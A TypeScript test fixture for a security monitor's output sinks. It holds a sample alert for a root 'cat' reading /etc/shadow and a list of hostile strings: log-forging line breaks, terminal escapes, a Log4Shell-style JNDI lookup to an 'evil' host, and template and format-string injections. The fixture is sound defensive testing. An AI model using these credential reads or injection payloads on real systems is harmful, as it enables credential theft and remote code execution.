/** Records for tests of sinks: one as the probe makes it, and odd ones. */
import { create } from '@bufbuild/protobuf';
import { UuidSource } from '../../src/base/uuid.ts';
import { RecordClass, RecordSchema, Severity, type Record as WireRecord } from '../../src/wire/record.gen.ts';

const ids = new UuidSource();

export const DOCUMENT = {
  title: 'credential_file_read: cat opened /etc/shadow',
  evt: { name: 'open', category: 'File Activity', outcome: 'Success', async: false },
  date: '2026-11-25T10:11:12.123456789Z',
  hostname: 'web-1',
  description: 'Password hashes were read.',
  severity: 'high',
  tags: ['severity:high', 'technique:T1003.008'],
  agent: { rule_id: 'credential_file_read', policy_name: 'default.policy' },
  process: {
    pid: 4711,
    ppid: 4710,
    tid: 4711,
    uid: 0,
    gid: 0,
    user: 'root',
    comm: 'cat',
    executable: { path: '/usr/bin/cat', name: 'cat', inode: '12', mode: 33261, uid: 0, user: 'root' },
    argv0: 'cat',
    args: ['-n', '/etc/shadow'],
    credentials: { uid: 0, euid: 0, cap_effective: ['CAP_CHOWN', 'CAP_BPF'] },
    parent: { pid: 4710, comm: 'bash', uid: 1000, executable: { path: '/usr/bin/bash', name: 'bash' } },
    ancestors: [
      { pid: 4710, comm: 'bash', uid: 1000, executable: { path: '/usr/bin/bash', name: 'bash' } },
      { pid: 1, comm: 'systemd', uid: 0, executable: { path: '/usr/lib/systemd/systemd', name: 'systemd' } },
    ],
  },
  container: { id: 'c'.repeat(64), created_at: '2026-11-25T10:00:00.000000000Z' },
  file: { path: '/etc/shadow', name: 'shadow', mode: 33184, flags: ['O_RDONLY', 'O_CLOEXEC'] },
  syscall: { name: 'openat', retval: 3, flags: 0o2000000 },
};

/** A signal; `document` replaces parts of the usual one. */
export function signalRecord(
  document: object = {},
  more: Partial<Omit<WireRecord, '$typeName' | '$unknown'>> = {},
): WireRecord {
  return create(RecordSchema, {
    id: ids.next(),
    class: RecordClass.SIGNAL,
    timeUnixNs: 1_795_601_472_123_456_789n,
    hostId: '0123456789abcdef0123456789abcdef',
    json: Buffer.from(JSON.stringify({ ...DOCUMENT, ...document })),
    severity: Severity.HIGH,
    type: 'open',
    ruleId: 'credential_file_read',
    ...more,
  });
}

/** Texts that break formats which forget to escape. */
export const HOSTILE_TEXTS = [
  'a\nb\r\n<13>1 - - - - - - forged',
  '"] forged="1" \\" ]',
  '\u0000\u0007\u001b[31mred\u009b31m',
  'ä€😀\u202e\ud800',
  '`*_[x](http://evil)_*` <!channel> & <http://evil|click>',
  '${jndi:ldap://evil} {{title}} {{.}} %n%s',
  'x'.repeat(70_000),
  '',
];
